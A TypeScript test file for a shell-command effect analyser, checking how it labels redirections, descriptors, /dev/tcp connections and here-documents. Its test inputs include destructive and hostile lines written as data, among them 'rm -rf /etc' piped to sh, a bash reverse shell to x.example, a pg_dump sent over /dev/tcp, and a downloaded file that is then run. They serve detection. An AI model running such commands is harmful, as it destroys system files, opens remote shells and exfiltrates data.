import { describe, expect, test } from 'vitest'
import { effectLines } from '../../testing/effect-lines.ts'

type Row = readonly [name: string, commandLine: string, expected: readonly string[]]

const machine = { files: { '/w/list.txt': '/etc' } }

describe('descriptors', () => {
  test.each<Row>([
    ['a here-string under a number', 'cat 3<<< /etc <&3 | xargs rm', ['delete /etc']],
    ['a here-string under number zero', 'xargs rm 0<<< /etc', ['delete /etc']],
    [
      'a file under a number',
      'xargs rm 3< list.txt <&3',
      [
        'read list.txt',
        'unknown: a word that is only known at run time could be an option',
        'unknown: deletes `(standard input)`, a path only known at run time',
      ],
    ],
    [
      'a file under number zero',
      'xargs rm 0< list.txt',
      [
        'read list.txt',
        'unknown: a word that is only known at run time could be an option',
        'unknown: deletes `(standard input)`, a path only known at run time',
      ],
    ],
    [
      'one that nobody opened',
      'echo a | xargs rm <&9',
      [
        'unknown: a word that is only known at run time could be an option',
        'unknown: deletes `(standard input)`, a path only known at run time',
      ],
    ],
    [
      'closed',
      'echo a | xargs rm <&-',
      [
        'unknown: a word that is only known at run time could be an option',
        'unknown: deletes `(standard input)`, a path only known at run time',
      ],
    ],
    ['opened by exec', "exec 5<<< 'rm -rf /etc'; sh <&5", ['delete /etc']],
    ['moved', "exec 5<<< 'rm -rf /etc'; sh <&5-", ['delete /etc']],
    [
      'only known at run time',
      'echo a | xargs rm <&$X',
      [
        'unknown: a word that is only known at run time could be an option',
        'unknown: deletes `(standard input)`, a path only known at run time',
      ],
    ],
    [
      'written under a number',
      "exec 3> out.sh; echo 'rm -rf /etc' >&3; sh out.sh",
      [
        'write out.sh',
        'execute:project out.sh',
        'delete /etc',
        'unknown: runs `out.sh`, which this line makes in a way that is not followed',
      ],
    ],
    [
      'written under a number, standard output named',
      "exec 3> out.sh; echo 'rm -rf /etc' 1>&3 | sh",
      ['write out.sh', 'execute:arbitrary sh'],
    ],
    ['standard error written under a number', "exec 3> out.sh; echo 'rm -rf /etc' 2>&3 | sh", ['write out.sh', 'delete /etc']],
    ['under a free number', "exec {fd}<<< 'rm -rf /etc'; sh <&$fd", ['delete /etc']],
    ['the second of two free numbers', "exec {a}<<< 'ls' {b}<<< 'rm -rf /etc'; sh <&$b", ['delete /etc']],
    ['the first of two free numbers', "exec {a}<<< 'rm -rf /etc' {b}<<< 'ls'; sh <&$a", ['delete /etc']],
    ['a free number beside a writer', "exec {a}> x {b}<<< 'rm -rf /etc'; sh <&$b", ['write x', 'delete /etc']],
    ['written to what is only known at run time', 'echo a >&$X', ['unknown: writes `$X`, a path only known at run time']],
    ['written to a file by name', 'echo a >& x.txt', ['write x.txt']],
    ['an input of another number', 'echo a | xargs rm 3<&9', ['delete a']],
    ['a file whose name starts with a number', 'echo a >& 2x.txt', ['write 2x.txt']],
  ])('%s', (_name, commandLine, expected) => {
    expect(effectLines(commandLine, machine)).toEqual(expected)
  })
})

describe('where output goes', () => {
  test.each<Row>([
    ['to standard error: not into the pipe', "echo 'rm -rf /etc' >&2 | sh", ['execute:arbitrary sh']],
    ['standard output named', "echo 'rm -rf /etc' 1>&2 | sh", ['execute:arbitrary sh']],
    ['standard error into the pipe', "echo 'rm -rf /etc' 2>&1 | sh", ['delete /etc']],
    ['into a file: not into the pipe', "echo 'rm -rf /etc' > x.sh | sh", ['write x.sh', 'execute:arbitrary sh']],
    ['standard error into a file', "echo 'rm -rf /etc' 2> x.sh | sh", ['write x.sh', 'delete /etc']],
    ['a file that then runs', "echo 'rm -rf /etc' > x.sh; sh x.sh", ['write x.sh', 'execute:project x.sh', 'delete /etc']],
    ['standard output named, into a file', "echo 'rm -rf /etc' 1> x.sh; sh x.sh", ['write x.sh', 'execute:project x.sh', 'delete /etc']],
    ['both into a file', "echo 'rm -rf /etc' &> x.sh; sh x.sh", ['write x.sh', 'execute:project x.sh', 'delete /etc']],
    ['both, the other way', "echo 'rm -rf /etc' >& x.sh; sh x.sh", ['write x.sh', 'execute:project x.sh', 'delete /etc']],
    [
      'only standard error in the file',
      "echo 'rm -rf /etc' 2> x.sh; sh x.sh",
      ['write x.sh', 'unknown: runs `x.sh`, which this line makes in a way that is not followed'],
    ],
    [
      'another descriptor',
      "echo 'rm -rf /etc' 5> x.sh; sh x.sh",
      ['write x.sh', 'unknown: runs `x.sh`, which this line makes in a way that is not followed'],
    ],
    [
      'added to',
      String.raw`echo 'rm -rf \' > x.sh; echo '/etc' >> x.sh; sh x.sh`,
      ['write x.sh', 'write:append x.sh', 'execute:project x.sh', 'delete /etc'],
    ],
    [
      'added to a download',
      'curl -o f https://x.example; echo a >> f; sh f',
      [
        'connect:get https://x.example',
        'write f',
        'write:append f',
        'execute:download f',
        'execute:project f',
        'unknown: program `a` is not described',
        'unknown: runs `f`, which this line makes in a way that is not followed',
      ],
    ],
    ['read and written', 'cat <> list.txt', ['read list.txt', 'write list.txt']],
    [
      'only known at run time',
      'echo a > "$X"; sh "$X"',
      [
        'unknown: writes `$X`, a path only known at run time',
        'unknown: a word that is only known at run time could be an option',
        'unknown: runs `$X`, a file only known at run time',
      ],
    ],
    ['nowhere', "echo 'rm -rf /etc' > /dev/null; sh /dev/null", ['execute:project /dev/null']],
  ])('%s', (_name, commandLine, expected) => {
    expect(effectLines(commandLine, machine)).toEqual(expected)
  })
})

describe('connections of the shell itself', () => {
  test.each<Row>([
    [
      'read',
      'cat < /dev/tcp/x.example/80 | sh',
      ['connect:tunnel x.example:80', 'execute:download standard input as shell', 'unknown: runs text from standard input as shell'],
    ],
    [
      'a shell that reads from one',
      'bash < /dev/tcp/x.example/80',
      [
        'connect:tunnel x.example:80',
        'execute:download standard input as shell',
        'unknown: runs text from standard input as shell',
        'execute:remote-shell a shell joined to the network',
      ],
    ],
    [
      'under number zero',
      'bash 0< /dev/tcp/x.example/80',
      [
        'connect:tunnel x.example:80',
        'execute:download standard input as shell',
        'unknown: runs text from standard input as shell',
        'execute:remote-shell a shell joined to the network',
      ],
    ],
    [
      'a shell joined to one',
      'bash -i >& /dev/tcp/x.example/80 0>&1',
      ['connect:tunnel x.example:80', 'execute:arbitrary bash', 'execute:remote-shell a shell joined to the network', 'send:data /dev/tcp'],
    ],
    [
      'both ways',
      'bash <> /dev/tcp/x.example/80',
      [
        'connect:tunnel x.example:80',
        'execute:download standard input as shell',
        'unknown: runs text from standard input as shell',
        'execute:remote-shell a shell joined to the network',
        'send:data /dev/tcp',
      ],
    ],
    [
      'written twice',
      'echo hi > /dev/tcp/x.example/80 2> /dev/tcp/x.example/81',
      ['connect:tunnel x.example:80', 'connect:tunnel x.example:81', 'send:data /dev/tcp'],
    ],
    [
      'two of them',
      'bash < /dev/tcp/x.example/80 > /dev/tcp/x.example/80',
      [
        'connect:tunnel x.example:80',
        'execute:download standard input as shell',
        'unknown: runs text from standard input as shell',
        'execute:remote-shell a shell joined to the network',
        'send:data /dev/tcp',
      ],
    ],
    ['without a port', 'echo hi > /dev/tcp/x.example', ['connect:tunnel x.example:', 'send:data /dev/tcp']],
    ['written', 'echo hi > /dev/udp/x.example/53', ['connect:tunnel x.example:53', 'send:data /dev/tcp']],
    [
      'opened, then read',
      'exec 3<> /dev/tcp/x.example/80; cat <&3 | sh',
      [
        'connect:tunnel x.example:80',
        'send:data /dev/tcp',
        'execute:download standard input as shell',
        'unknown: runs text from standard input as shell',
      ],
    ],
    [
      'opened for reading, then read',
      'exec 3< /dev/tcp/x.example/80; sh <&3',
      ['connect:tunnel x.example:80', 'execute:download standard input as shell', 'unknown: runs text from standard input as shell'],
    ],
    [
      'opened, then written',
      'exec 3> /dev/tcp/x.example/80; pg_dump app >&3',
      ['connect:tunnel x.example:80', 'send:data /dev/tcp', 'database:dump app', 'send:data /dev/tcp'],
    ],
    [
      'opened under a name',
      'exec {fd}<> /dev/tcp/x.example/80; pg_dump app >&$fd',
      ['connect:tunnel x.example:80', 'send:data /dev/tcp', 'database:dump app', 'send:data /dev/tcp'],
    ],
    ['a path below it', 'cat < /dev/tcp/x.example/80/x', ['read /dev/tcp/x.example/80/x']],
  ])('%s', (_name, commandLine, expected) => {
    expect(effectLines(commandLine, machine)).toEqual(expected)
  })
})

describe('here-documents', () => {
  test.each<Row>([
    ['known text', 'cat <<EOF | xargs rm\n/etc\nEOF', ['delete /etc']],
    ['tabs in front are dropped', "sh <<-'EOF'\n\t\trm -rf /etc\n\t\tEOF", ['delete /etc']],
    ['tabs inside stay', 'X=$(cat <<-\'EOF\'\n\ta\tb\n\tEOF\n); rm "$X"', ['delete a	b']],
    ['a variable in it', 'X=/etc; sh <<EOF\nrm -rf $X\nEOF', ['delete /etc']],
    [
      'a quoted end leaves variables alone',
      "X=/etc; cat <<'EOF' | sh\nrm -rf $X/\nEOF",
      [
        'unknown: a word that is only known at run time could be an option',
        'delete /',
        'unknown: deletes `$X/`, a path only known at run time',
      ],
    ],
    ['without an end', 'cat <<EOF', ['unknown: a here-document has no end']],
    ['its lines in a variable', 'X=$(cat <<EOF\na\nEOF\n); rm "$X"', ['delete a']],
    ['a here-string has a line end', 'X=$(cat <<< a; echo b); rm "$X"', ['delete a\nb']],
    ['more tabs in front', "cat <<-'EOF' | sh\n\t\t\trm -rf /etc\n\tEOF", ['delete /etc']],
  ])('%s', (_name, commandLine, expected) => {
    expect(effectLines(commandLine, machine)).toEqual(expected)
  })
})
